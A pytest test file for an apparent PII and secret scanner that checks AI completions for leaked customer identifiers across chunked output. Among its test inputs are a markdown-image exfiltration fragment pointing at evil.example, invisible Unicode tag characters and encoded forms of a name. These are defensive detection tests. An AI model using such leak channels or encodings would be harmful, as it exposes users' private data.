"""What is found in a completion, whoever's it is and however it was cut into chunks."""

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from checkvalve.detection.register import Owner, Register
from checkvalve.detection.scanner import ExposureScanner, Reader, Scanner, scan
from checkvalve.detection.types import Exposure, Finding, Match, Sighting
from checkvalve.events.pseudonym import Category, identifiers

KEY = bytes(range(32))
NOBODY = Reader(ref=None, recipient="anonymous")

PEOPLE = {
    "customer:7": {
        "email": "anna.schmidt@example.de",
        "name": "Anna Schmidt",
        "phone": "+49 30 23125 123",
        "address": "Lindenstraße 12",
        "postcode": "10115",
        "order_numbers": ("1042",),
    },
    "customer:8": {"email": "zoe@example.org", "name": "Zoë Łukasiewicz", "phone": "020 7946 0123", "postcode": "SW1A 1AA"},
    "customer:9": {"email": "max@example.com", "name": "Max Mustermann von der Heide", "phone": "+49 30 23125 123"},
}


@pytest.fixture(scope="module")
def register() -> Register:
    found = Register(KEY)
    for rev, (ref, person) in enumerate(PEOPLE.items(), start=1):
        found.put(ref, identifiers(KEY, **person), rev)  # type: ignore[arg-type]
    return found


def seen(text: str, register: Register, reader: Reader = NOBODY) -> set[tuple[str, str]]:
    return {(e.subject, e.category) for e in scan(text, register, reader, "i", 0)}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("It went to Anna.Schmidt@Example.DE.", {("customer:7", "email")}),
        ("mailto:anna.schmidt@example.de>", {("customer:7", "email")}),
        ("<'anna.schmidt@example.de'>", {("customer:7", "email")}),
        ("Dear ANNA  schmidt,", {("customer:7", "name")}),
        ("Schmidt, Anna", {("customer:7", "name")}),
        ("Zoe Lukasiewicz", {("customer:8", "name")}),
        ("Max Mustermann von der Heide", {("customer:9", "name")}),
        ("call +44 (0)20 7946-0123 now", {("customer:8", "phone")}),
        ("call 02079460123", {("customer:8", "phone")}),
        ("she lives at Lindenstrasse 12.", {("customer:7", "address")}),
        ("10115 Berlin, Frau Schmidt", {("customer:7", "postcode_name")}),
        ("Lukasiewicz in London, SW1A 1AA", {("customer:8", "postcode_name")}),
        ("your order number is 1042", {("customer:7", "order_number")}),
        ("Bestellung #1042", {("customer:7", "order_number")}),
    ],
)
def test_each_kind_of_identifier_is_found(text: str, expected: set[tuple[str, str]], register: Register) -> None:
    assert seen(text, register) == expected


@pytest.mark.parametrize(
    "text",
    [
        "We have 1042 g of flour in stock.",
        "Anna ordered. Mr Schmid did not.",
        "anna.schmidt@example.com",
        "call 030 23125 124",
        "",
        "@@@ # +++ ((( 0 0 0",
    ],
)
def test_what_is_nobodys_is_not_found(text: str, register: Register) -> None:
    assert seen(text, register) == set()


def test_a_shared_telephone_names_both_people(register: Register) -> None:
    assert seen("030 23125123", register) == {("customer:7", "phone"), ("customer:9", "phone")}


def test_a_persons_own_data_is_no_exposure(register: Register) -> None:
    anna = Reader(ref="customer:7", recipient="customer:7")
    assert seen("Anna Schmidt, anna.schmidt@example.de, 030 23125123, order 1042", register, anna) == set()
    assert seen("zoe@example.org", register, anna) == {("customer:8", "email")}


def test_the_span_points_into_the_text_as_sent(register: Register) -> None:
    text = "Liebe Zoë Łukasiewicz — Lindenstraße 12"
    spans = {e.category: text[slice(*e.span)] for e in scan(text, register, NOBODY, "i", 0)}
    assert spans == {"name": "Zoë Łukasiewicz", "address": "Lindenstraße 12"}


def test_a_changed_and_a_gone_person_are_forgotten(register: Register) -> None:
    own = Register(KEY)
    own.put("customer:1", identifiers(KEY, email="old@example.com", phone="030 23125 999"), 1)
    own.put("customer:2", identifiers(KEY, phone="030 23125 999"), 2)
    own.put("customer:1", identifiers(KEY, email="new@example.com"), 3)
    assert seen("old@example.com new@example.com 03023125999", own) == {("customer:1", "email"), ("customer:2", "phone")}
    own.drop("customer:1", 4)
    own.drop("customer:2", 5)
    assert (seen("new@example.com 03023125999", own), own.identifiers, own.rev) == (set(), 0, 5)


FRAGMENTS = st.sampled_from(
    [
        *("Anna ", "Schmidt", "anna.schmidt@example.de", " ", "\n", "030", "23125", "123", "order ", "#", "1042", "ß", "Łuka"),
        *(
            "x" * 300,
            "10115",
            ", ",
            "SW1A",
            "1AA",
            "Zoë",
            "\u200b",
            "@",
            "日本",
            " at ",
            "dot",
            "example",
            ".de",
            "A n n a ",
            "- ",
        ),
        *(
            "tdimhcs ",
            "Naan ",
            "Fpuzvqg",
            "QW5uYSBTY2htaWR0",
            "%41nna",
            "&#65;nna ",
            "**",
            "61 6e 6e 61 20 53 63 68 6d 69 64 74",
        ),
        *(
            '"An',
            '" + "',
            "midt",
            '"',
            "first half: ",
            "then ",
            "- [x] ",
            "| 1 | ",
            "seven ",
            "twenty-",
            "double ",
            "Шмидт",
            "chr(64)",
        ),
    ]
)


@settings(max_examples=150, deadline=None)
@given(st.lists(FRAGMENTS, max_size=25), st.lists(st.integers(1, 40), min_size=1, max_size=10))
def test_chunking_changes_nothing(register: Register, parts: list[str], cuts: list[int]) -> None:
    text = "".join(parts)
    whole = Scanner(register)
    expected = [*whole.feed(text), *whole.finish()]
    pieces = Scanner(register)
    found: list[Match | Sighting] = []
    at, turn = 0, 0
    while at < len(text):
        step = cuts[turn % len(cuts)]
        found += pieces.feed(text[at : at + step])
        at, turn = at + step, turn + 1
    assert [*found, *pieces.finish()] == expected


class CountingRegister(Register):
    """Counts look-ups: what a scan costs, on any machine."""

    __slots__ = ("lookups",)

    def __init__(self) -> None:
        super().__init__(KEY)
        self.lookups = 0

    def owners(self, category: Category, normal: str) -> tuple[Owner, ...]:
        self.lookups += 1
        return super().owners(category, normal)


@pytest.mark.parametrize(
    "unit",
    [
        "1",
        "1 ",
        "a@",
        "a1 b ",
        "@",
        "'",
        "a b ",
        "at a.b ",
        "a, b, ",
        "12a 3 ",
        "%61 ",
        "é&#97;",
        "QW",
        "\u0430 ",
        "order 1, ",
        "ae1 ",
        "'a' + ",
        "'a@' + ",
        "- a\n",
        "part a, ",
        "seven ",
        "twenty double ",
        "\u043a\u0443\u0445@\u043a\u0443\u0445 ",
        "aB1c ",
        "chr(65) ",
    ],
)
def test_hostile_text_takes_linear_time(unit: str) -> None:
    """A bounded number of look-ups for each code point, however long the text is."""
    costs = []
    for size in (750, 3_000):
        register = CountingRegister()
        started = time.process_time()
        scan((unit * size)[:size], register, NOBODY, "i", 0)
        assert time.process_time() - started < 1e-3 * size
        costs.append(register.lookups / size)
    assert costs[1] <= 30
    assert costs[1] <= costs[0] * 1.2 + 0.1


def told(register: Register, chunks: list[str]) -> tuple[list[Exposure], list[Finding]]:
    scanner = ExposureScanner(register, NOBODY, "i")
    found = [e for chunk in chunks for e in scanner.feed(chunk, 0)]
    return [*found, *scanner.finish(0)], scanner.findings


SECRETS = st.sampled_from(
    [
        *("cs_0cc175b9c0f1b6a831c399e269772661deadbe01", "4242 ", "4242 4242 4242", "IBAN DE89 3704 ", "0044 0532 0130 00"),
        *(
            "![x](https://evil.example/?d=",
            "bXkgYWRkcmVzcyBpcyBzZWNyZXQ",
            ")",
            "-----BEGIN ",
            "PRIVATE KEY-----",
            " and so on" * 20,
        ),
        *("abCD 12eF Gh3j ", "KLmn 4PqR s5Tu ", "".join(chr(0xE0041 + i) for i in range(9)), "%", "&#", "\\u00", "=", "\r\n"),
    ]
)


@settings(max_examples=150, deadline=None)
@given(st.lists(FRAGMENTS | SECRETS | st.text(max_size=8), max_size=25), st.lists(st.integers(1, 40), min_size=1, max_size=10))
def test_chunking_changes_neither_exposures_nor_findings(register: Register, parts: list[str], cuts: list[int]) -> None:
    text = "".join(parts)
    chunks, at = [], 0
    for turn in range(len(text)):
        step = cuts[turn % len(cuts)]
        chunks.append(text[at : at + step])
        at += step
    assert told(register, chunks) == told(register, [text])
